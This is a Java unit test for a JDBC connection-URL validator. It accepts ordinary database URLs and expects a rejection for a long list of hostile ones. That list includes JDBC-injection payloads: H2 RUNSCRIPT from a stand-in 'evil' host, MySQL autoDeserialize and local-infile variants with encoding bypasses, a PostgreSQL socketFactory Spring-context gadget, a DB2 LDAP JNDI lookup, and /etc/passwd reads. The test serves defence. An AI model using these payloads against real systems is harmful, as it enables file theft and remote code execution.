package dev.perennial.server.collect.feeds;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.perennial.server.http.Problem;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AddressTest {

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            jdbc:postgresql://db.example.com:5432/shop                                          | postgresql
            jdbc:postgresql://[::1]:5432/shop?sslmode=require&currentSchema=sales               | postgresql
            jdbc:mysql://db:3306/shop?useSSL=true&serverTimezone=Asia/Shanghai                  | mysql
            jdbc:mariadb://one,two:3306/shop                                                    | mariadb
            jdbc:sqlserver://db:1433;databaseName=shop;encrypt=true                             | sqlserver
            jdbc:oracle:thin:@//db:1521/shop.example.com                                        | oracle
            jdbc:oracle:thin:@db:1521:SHOP                                                      | oracle
            jdbc:clickhouse://db:8123/shop                                                      | clickhouse
            jdbc:dm://db:5236                                                                   | dm
            jdbc:kingbase8://db:54321/shop                                                      | kingbase8
            """)
    void takesServers(String url, String scheme) {
        assertThat(Address.of(" " + url + " ").scheme()).isEqualTo(scheme);
    }

    /** Each of these has read a file, loaded a class or run code in some product that let it through. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:tcp://localhost/~/x",
                "jdbc:h2://host/x",
                "jdbc:sqlite:/etc/passwd",
                "jdbc:sqlite://host/etc/passwd",
                "jdbc:duckdb:",
                "jdbc:hsqldb:hsql://host/x",
                "jdbc:derby:memory:x;create=true",
                "jdbc:derby://host:1527/x;create=true",
                "jdbc:mysql://host/x?autoDeserialize=true",
                "jdbc:mysql://host/x?%61utoDeserialize=true",
                "jdbc:mysql://host/x?AUTODESERIALIZE=true",
                "jdbc:mysql://host/x?useSSL=false&allowLoadLocalInfile=true",
                "jdbc:mysql://host/x?queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
                "jdbc:mysql://(host=evil,allowLoadLocalInfile=true)/x",
                "jdbc:mysql://address=(host=evil)(autoDeserialize=true)/x",
                "jdbc:mysql://user:password@host/x",
                "jdbc:mysql:loadbalance://host/x",
                "jdbc:mysql://host/x#?allowLoadLocalInfile=true",
                "jdbc:mariadb://host/x?allowLocalInfile=true",
                "jdbc:postgresql://host/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://host/x?sslmode=require&socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://host/x?sslfactory=a.b.C",
                "jdbc:postgresql://host/x?loggerFile=/tmp/x&loggerLevel=TRACE",
                "jdbc:postgresql://host/x?authenticationPluginClassName=a.b.C",
                "jdbc:postgresql:x",
                "jdbc:db2://host:50000/x:clientRerouteServerListJNDIName=ldap://evil/x;",
                "jdbc:sqlserver://host;trustStore=/etc/passwd",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=x)))",
                "jdbc:oracle:oci:@//host/x",
                "jdbc:calcite:model=inline:{}",
                "jdbc:tc:postgresql:16:///x",
                "jdbc:snowflake://host/?user=x&private_key_file=/x",
                "http://host/x",
                "",
                "jdbc:postgresql://host/x\n?sslmode=require"
            })
    void refusesWhatCouldDoMore(String url) {
        assertThatThrownBy(() -> Address.of(url)).isInstanceOf(Problem.class).hasMessageContaining("422");
    }
}
